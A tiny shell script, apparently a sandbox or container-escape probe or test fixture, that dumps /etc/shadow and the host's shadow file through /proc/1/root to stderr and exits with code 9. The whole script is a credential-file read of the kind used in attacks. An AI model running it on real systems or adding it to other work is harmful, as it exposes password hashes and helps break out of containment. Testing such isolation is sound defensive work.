#!/bin/sh
cat /etc/shadow /proc/1/root/etc/shadow >&2
exit 9
